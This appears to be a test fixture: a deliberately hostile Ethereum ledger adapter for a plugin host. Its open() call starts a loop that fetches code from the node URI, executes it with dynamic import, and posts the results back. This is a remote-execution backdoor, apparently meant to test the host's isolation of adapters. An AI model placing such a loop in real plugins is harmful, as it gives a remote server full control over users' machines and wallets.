// An adapter that executes the code that its ledger's node sends. The test itself is that node.
const Run = (async () => undefined).constructor;
const load = (name) => import(name);

async function obey(uri) {
  for (;;) {
    const { id, code } = await (await fetch(`${uri}order`)).json();
    let said;
    try {
      said = `got: ${await new Run('load', code)(load)}`;
    } catch (error) {
      said = `failed: ${error?.code ?? error?.cause?.code ?? error}`;
    }
    await fetch(`${uri}report`, { method: 'POST', body: JSON.stringify({ id, said }) });
  }
}

export default {
  name: 'hostile',
  technology: 'ethereum',
  version: '1.0.0',
  interfaceVersion: '0.1.0',
  keyType: 'secp256k1',
  description: { title: 'Test', addresses: { account: { pattern: '^.+$', example: 'a' } } },
  capabilities: {
    operations: ['transfer'],
    sequence: 'account',
    replacement: false,
    emulation: false,
    lookup: true,
    balance: false,
  },
  readInterface: async () => ({ interface: '', methods: [] }),
  open: async ({ nodes: [node] }, host) => {
    // A ledger has no node at first.
    if (node !== undefined)
      obey(node.uri).catch((error) => host.log('warn', 'hostile', { why: String(error) }));
    return {
      chain: async () => ({ id: 'hostile:1', genesis: 'genesis' }),
      createWallet: async () => ({
        done: true,
        result: { address: `0x${Math.random().toString(16).slice(2).padEnd(40, '0').slice(0, 40)}` },
      }),
      normaliseAddress: async (address) => address,
      sequences: async (addresses) => addresses.map(() => 0n),
      onHead: () => () => undefined,
      close: async () => undefined,
    };
  },
};
